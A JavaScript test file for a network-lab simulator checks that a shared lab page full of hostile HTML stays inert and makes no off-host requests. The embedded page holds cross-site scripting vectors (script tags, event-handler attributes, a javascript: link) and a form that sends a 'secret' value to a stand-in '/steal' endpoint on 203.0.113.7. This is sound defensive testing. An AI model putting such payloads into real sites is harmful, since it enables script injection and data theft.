// The browser window is a security boundary: a lab page that arrives in a
// share link tries a <script>, an onerror handler, a javascript: link, a form
// and an image on a real host. None may run, be submitted or be fetched; a
// link inside the simulated site still navigates the simulated browser.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { launch, LabPage, BASE_URL } from "./lanlab.mjs";

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

const EVIL_HOST = "203.0.113.7";
const HOSTILE = `<!DOCTYPE html>
<html><head><title>Evil</title>
<script>window.top.pwned = "script"; top.document.title = "pwned-script";</script>
<style>body { background: url(http://${EVIL_HOST}/bg.png) }</style>
</head>
<body onload="window.top.pwned = 'onload'">
<h1>Hostile page</h1>
<img src=x onerror="window.top.pwned = 'onerror'; top.document.title = 'pwned-onerror'">
<img src="http://${EVIL_HOST}/track.png" alt="tracker">
<p><a href="javascript:window.top.pwned='js-link';top.document.title='pwned-js'">js link</a></p>
<form action="http://${EVIL_HOST}/steal" method="get">
  <input name="q" value="secret"><button type="submit">Submit form</button>
</form>
<iframe src="http://${EVIL_HOST}/frame"></iframe>
<div onmouseover="window.top.pwned = 'hover'">hover me</div>
<p><a href="about.html" onclick="window.top.pwned = 'onclick'">About us</a></p>
</body></html>`;
const ABOUT = `<html><body><h1>About page</h1><p><a href="/">Home</a></p></body></html>`;

/** S1 (from the app's own examples) with the hostile page as Server0's home page. */
async function hostileLab(page) {
  const s1 = await page.evaluate(async (url) => (await fetch(url)).json(), new URL("labs/s1-one-server.json", BASE_URL).href);
  const server = s1.devices.find((d) => d.name === "Server0");
  server.services.http.default_site.files = {
    "index.html": { content: HOSTILE, modified: 1767600000 },
    "about.html": { content: ABOUT, modified: 1767600000 },
  };
  s1.actions = [];
  s1.name = "hostile";
  return s1;
}

test("a hostile lab page runs nothing, submits nothing, fetches nothing; in-site links work", async () => {
  // The author builds the lab and shares a link.
  const author = await LabPage.open(browser);
  await author.openLabFile(await hostileLab(author.page));
  await author.device("Server0").waitFor();
  await author.page.getByTestId("copy-link").click();
  const link = await author.page.getByTestId("share-link").inputValue();
  await author.page.context().close();

  // The student opens the link and browses to the page.
  const lab = await LabPage.open(browser, link);
  const { page } = lab;
  const requests = [];
  page.on("request", (r) => requests.push(r.url()));
  await lab.device("PC0").waitFor();
  const title = await page.title();

  const doc = await lab.browse("PC0", "hasan.com", "Hostile page");
  await doc.getByText("hover me").hover();
  // The javascript: link is inert text; the form's button is only text.
  await doc.getByText("js link").click();
  await doc.getByText("Submit form").click();
  // Showing that nothing ran needs time to pass; there is no event to await.
  await page.waitForTimeout(500);

  // Nothing of the page became live DOM.
  for (const sel of ["script", "img", "form", "input", "button", "iframe", "style", "a[href]"]) {
    assert.equal(await doc.locator(sel).count(), 0, `no ${sel} inside the page`);
  }
  const handlers = await doc.evaluate((root) =>
    [...root.querySelectorAll("*")].flatMap((el) =>
      [...el.attributes].filter((a) => /^on|^src$|^href$|^action$|^style$/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`),
    ),
  );
  assert.deepEqual(handlers, []);
  assert.equal(await doc.getByTestId("dead-link").count(), 1);

  // None ran, none was submitted, no request left loopback.
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(await page.title(), title);
  assert.ok(!page.url().includes("steal") && !page.url().includes("q=secret"), page.url());
  assert.deepEqual(lab.offLoopback, []);
  const off = requests.filter((u) => !/^(http:\/\/(127\.0\.0\.1|localhost)[:/]|data:|blob:)/.test(u));
  assert.deepEqual(off, []);
  assert.ok(!requests.some((u) => u.includes(EVIL_HOST)));

  // An in-site link navigates the simulated browser, and Back returns.
  await doc.getByTestId("page-link").filter({ hasText: "About us" }).click();
  await doc.getByText("About page").waitFor({ timeout: 20_000 });
  assert.equal(await page.getByTestId("browser-url").inputValue(), "http://hasan.com/about.html");
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  await page.getByTestId("browser-back").click();
  await doc.getByText("Hostile page").waitFor({ timeout: 20_000 });

  // The simulated network did the work: the server's lease/DNS/HTTP path,
  // not the real one. A name that does not exist fails inside the lab.
  await page.getByTestId("browser-url").fill("example.com");
  await page.getByTestId("browser-go").click();
  await page.getByTestId("browser-error").waitFor({ timeout: 20_000 });
  assert.match(await page.getByTestId("browser-error").textContent(), /example\.com/);
  assert.deepEqual(lab.offLoopback, []);
  assert.deepEqual(lab.errors, []);
  await page.context().close();
});
